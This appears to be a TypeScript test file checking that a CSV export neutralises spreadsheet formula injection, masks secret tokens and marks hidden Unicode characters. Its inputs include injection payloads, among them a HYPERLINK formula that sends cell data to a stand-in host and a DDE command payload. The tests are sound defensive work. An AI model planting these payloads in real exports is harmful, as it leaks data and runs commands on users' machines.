import { expect, test } from 'vitest';
import { readCsv } from '../../../src/polar/index.ts';
import { csvFile } from '../../../src/results/csv-file.ts';
import { HOSTILE } from '../../support/hostile.ts';

const cellOf = (text: string) => readCsv(csvFile({ columns: ['name'], rows: [[text]] })).rows[0]?.[0];

test('a file has a byte order mark, CRLF, and quotes around texts, not around numbers', () => {
  expect(
    csvFile({
      columns: ['Email', 'Net Amount'],
      rows: [
        ['ada@example.com', '-6.67'],
        ['', '12'],
      ],
    }),
  ).toBe('\uFEFF"Email","Net Amount"\r\n"ada@example.com",-6.67\r\n,12\r\n');
});

test.each([
  ['=HYPERLINK("https://evil.example?"&A1,"open")', '\'=HYPERLINK("https://evil.example?"&A1,"open")'],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['  =1+1', "'  =1+1"],
  ['\t=1+1', "'\t'=1+1"],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['+49 30 1234', "'+49 30 1234"],
])('%j is no formula', (text, harmless) => {
  expect(cellOf(text)).toBe(harmless);
});

test.each([
  ['a;=1+1', "a;'=1+1"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a;"=1+1', 'a;"\'=1+1'],
  ['x;\u3000@SUM(A1)', "x;\u3000'@SUM(A1)"],
])('nor is a part of %j where a spreadsheet splits by another character', (text, harmless) => {
  expect(cellOf(text)).toBe(harmless);
});

test.each([
  'Ada Lovelace',
  'ada@example.com',
  'Doe, -J',
  'a-b',
  '-6.67',
  '2026-11-30T12:00:00+01:00',
  '{"a": -1, "b": [1, -2]}',
  "O'Hara",
  'say "hi"',
  '',
])('%j stays', (text) => {
  expect(cellOf(text)).toBe(text);
});

/** What a spreadsheet may take for a cell, whichever of these characters it splits lines by, and however it reads quotes. */
const cellsBy = (separator: RegExp, file: string) =>
  file
    .slice(1)
    .split(separator)
    .map((cell) => cell.replace(/^[\s"]+/, ''));

test('no text of strangers becomes a formula, by whatever separator a spreadsheet reads the file', () => {
  const texts = HOSTILE.map(({ text }) => text).flatMap((text) => [text, `x;${text}`, `x\t${text}`]);
  const file = csvFile({ columns: ['name', 'note'], rows: texts.map((text) => [text, 'end']) });
  for (const separator of [/[;\r\n]/, /[\t\r\n]/, /[|\r\n]/]) {
    const formulas = cellsBy(separator, file).filter((cell) => /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell));
    expect(formulas).toEqual([]);
  }
  // Read by its own rules, it has each text as one cell.
  const { rows } = readCsv(file);
  expect(rows).toHaveLength(texts.length);
  for (const [cell = '', last] of rows) {
    expect(cell).not.toMatch(/^\s*[=+\-@]/);
    expect(last).toBe('end');
  }
});

test.each([' ', '"', '\t', '= '])('many of %j are written without looking back from each', (text) => {
  const from = performance.now();
  cellOf(`x${text.repeat(200_000)}`);
  expect(performance.now() - from).toBeLessThan(2000);
});

test('a secret is masked, and what can’t be seen is marked, as in the rows that a model gets', () => {
  expect(cellOf('polar_oat_abcdefgh')).toBe('polar_oat_[secret]');
  expect(cellOf('invoice_\u202Efdp.exe')).toBe('invoice_[U+202E]fdp.exe');
});
